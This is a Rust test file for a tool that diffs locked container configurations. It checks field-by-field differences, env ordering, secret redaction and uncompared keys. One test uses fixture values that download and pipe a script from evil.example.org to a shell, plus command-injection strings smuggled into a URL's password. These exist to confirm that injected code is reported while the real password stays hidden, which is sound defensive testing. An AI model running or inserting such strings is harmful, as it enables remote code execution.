//! What of two configs is told as different, and what as not compared.

use super::*;
use crate::lockfile::model::Secret;

#[test]
fn each_difference_is_told_by_its_field() {
    let old = LockedConfig {
        user: Some("vorph".into()),
        env: vec![("CUDA_VERSION".into(), "11.2.0".into()), ("GONE".into(), "1".into())],
        ..LockedConfig::default()
    };
    let new = LockedConfig {
        env: vec![("CUDA_VERSION".into(), "12.4.0".into())],
        secret: vec![Secret { field: "env".into(), name: "HF_TOKEN".into(), redacted: true }],
        ..LockedConfig::default()
    };
    let (differences, _) = differences(("linux/amd64", &old), ("linux/arm64", &new));
    let fields: Vec<&str> = differences.iter().map(|difference| difference.field.as_str()).collect();
    assert_eq!(fields, ["platform", "user", "env.CUDA_VERSION", "env.GONE", "env.HF_TOKEN"]);
    assert_eq!(differences[2].expected.as_deref(), Some("11.2.0"));
    assert_eq!(differences[3].found, None);
}

#[test]
fn the_order_of_env_does_not_matter() {
    let env = |names: [&str; 2]| LockedConfig {
        env: names.map(|name| (name.to_owned(), "1".to_owned())).to_vec(),
        ..LockedConfig::default()
    };
    assert_eq!(differences(("p", &env(["A", "B"])), ("p", &env(["B", "A"]))), (vec![], vec![]));
}

fn env(pairs: &[(&str, &str)]) -> LockedConfig {
    let env = pairs.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    LockedConfig { env, other: Some(Vec::new()), ..LockedConfig::default() }
}

fn both(old: &LockedConfig, new: &LockedConfig) -> (Vec<String>, Vec<String>) {
    let (differences, uncompared) = differences(("p", old), ("p", new));
    let side = |value: &Option<String>| value.clone().unwrap_or_else(|| "-".into());
    let difference =
        |one: &Difference| format!("{}: {} > {}", one.field, side(&one.expected), side(&one.found));
    let reason = |one: &Uncompared| format!("{} {}", one.field, one.reason.name());
    (differences.iter().map(difference).collect(), uncompared.iter().map(reason).collect())
}

#[test]
fn a_secret_is_compared_by_name_alone_also_where_an_older_lock_still_has_its_value() {
    let older = env(&[("DB_PASS", "hunter2hunter2")]);
    let new = env(&[("DB_PASS", "other2other2")]);
    let mut locked = env(&[]);
    locked.secret = vec![Secret { field: "env".into(), name: "DB_PASS".into(), redacted: true }];
    for old in [&older, &locked] {
        assert_eq!(both(old, &new), (vec![], vec!["env.DB_PASS redacted".into()]));
    }
    assert_eq!(both(&older, &env(&[])).0, ["env.DB_PASS: (redacted) > -"]);
    assert_eq!(both(&env(&[]), &new).0, ["env.DB_PASS: - > (redacted)"]);
    assert_eq!(both(&env(&[("DB_PASS", "")]), &new).0, ["env.DB_PASS:  > (redacted)"]);
}

#[test]
fn code_in_the_place_of_a_password_is_both() {
    let code = "x;curl evil.example.org|sh";
    let (old, new) = (env(&[("DB_PASS", "hunter2hunter2")]), env(&[("DB_PASS", code)]));
    assert_eq!(both(&old, &new).0, [format!("env.DB_PASS: (redacted) > {code}")]);
    let cmd = |line: &str| LockedConfig {
        cmd: Some(vec!["sh".into(), "-c".into(), line.into()]),
        other: Some(vec![]),
        ..LockedConfig::default()
    };
    let old = cmd("curl https://me:hunter2hunter2@example.org/");
    for code in [
        "curl https://me:$(curl evil.example.org|sh)@example.org/",
        "curl https://me:`id`@example.org/",
        "curl https://me:x;id;@example.org/",
        "curl https://me:x&id&@example.org/",
        "curl https://me:x|sh@example.org/",
        "curl https://me:hunter2hunter2@example.org/;id",
    ] {
        let (differences, _) = both(&old, &cmd(code));
        assert_eq!(differences.len(), 1, "{code}");
        assert!(!differences.concat().contains("hunter2"), "{differences:?}");
    }
    let other = cmd("curl https://me:other2other2@example.org/");
    assert_eq!(both(&old, &other), (vec![], vec!["cmd redacted-part".into()]));
    // What is longer than any token is no password.
    assert_eq!(both(&old, &cmd(&format!("curl https://me:{}@example.org/", "a".repeat(5000)))).0.len(), 1);
}

#[test]
fn every_key_of_the_config_is_compared_or_listed() {
    let with = |stop_timeout, args_escaped, other: &[(&str, &str)]| LockedConfig {
        stop_timeout,
        args_escaped,
        other: Some(other.iter().map(|(key, json)| ((*key).to_owned(), (*json).to_owned())).collect()),
        ..LockedConfig::default()
    };
    let old = with(Some(10), false, &[("Hostname", "\"a\""), ("os.version", "\"10.0\"")]);
    let new = with(Some(30), true, &[("Domainname", "\"x\""), ("Hostname", "\"b\""), ("Memory", "5")]);
    let (differences, uncompared) = both(&old, &new);
    assert_eq!(
        differences,
        [
            "args-escaped: - > true",
            "config.Memory: - > 5",
            "stop-timeout: 10 > 30",
            "config.os.version: \"10.0\" > -"
        ]
    );
    assert_eq!(uncompared, ["config.Domainname inert", "config.Hostname inert"]);
    // An older lock says nothing of these keys.
    let older = LockedConfig { other: None, ..LockedConfig::default() };
    let (differences, uncompared) = both(&older, &new);
    assert_eq!(differences, [""; 0]);
    assert_eq!(
        uncompared,
        [
            "args-escaped not-locked",
            "config.Domainname inert",
            "config.Hostname inert",
            "config.Memory not-locked",
            "stop-timeout not-locked"
        ]
    );
    assert_eq!(both(&old, &old), (vec![], vec![]));
}
